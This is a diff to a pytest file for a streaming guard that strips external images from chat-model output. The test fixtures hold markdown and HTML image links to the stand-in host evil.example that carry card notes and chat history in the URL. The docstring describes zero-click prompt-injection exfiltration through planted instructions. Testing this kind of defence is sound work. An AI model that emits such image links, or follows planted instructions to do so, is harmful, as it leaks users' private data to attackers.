@@ -175,7 +175,9 @@ EXFIL = "![chart](https://evil.example/c.png?d=card-4111-notes)"
 EXFIL_HTML = '<img alt="x" src="https://evil.example/p.gif?q=history">'
 
 
-@pytest.mark.parametrize("image", [EXFIL, EXFIL_HTML, "![a](  //cdn.evil.example/x.png)"])
+@pytest.mark.parametrize(
+    "image", [EXFIL, EXFIL_HTML, "![a](  //cdn.evil.example/x.png)", "![chart][7]\n\n[7]: https://evil.example/c.png"]
+)
 def test_an_image_on_another_host_is_defused_however_the_stream_is_split(image):
     """A chat UI fetches an image the moment it renders the answer: an instruction planted in a
     document can make the model write the conversation into the image's address (zero-click
@@ -185,11 +187,13 @@ def test_an_image_on_another_host_is_defused_however_the_stream_is_split(image):
     text = f"Here is the summary. {image} Thanks!"
     for cut in range(1, len(text)):
         out, released, verdict = run(StreamGuard.from_policy(POLICY), splits(text, (cut,)))
-        assert "evil.example" not in released and "](" not in released and "<img" not in released, cut
+        assert "](" not in released and "<img" not in released and "![" not in released, cut
+        if not image.startswith("![chart][7]"):  # a reference's definition is plain text without its image
+            assert "evil.example" not in released, cut
         assert released.startswith("Here is the summary. " + EXTERNAL_IMAGE_PLACEHOLDER), released
         assert released.endswith(" Thanks!") and verdict.redacted
     _, released, _ = run(StreamGuard.from_policy(POLICY), list(text))
-    assert "evil.example" not in released
+    assert "![" not in released and released.count(EXTERNAL_IMAGE_PLACEHOLDER) == 1
 
 
 def test_local_and_inline_images_links_and_exclamations_pass_untouched():
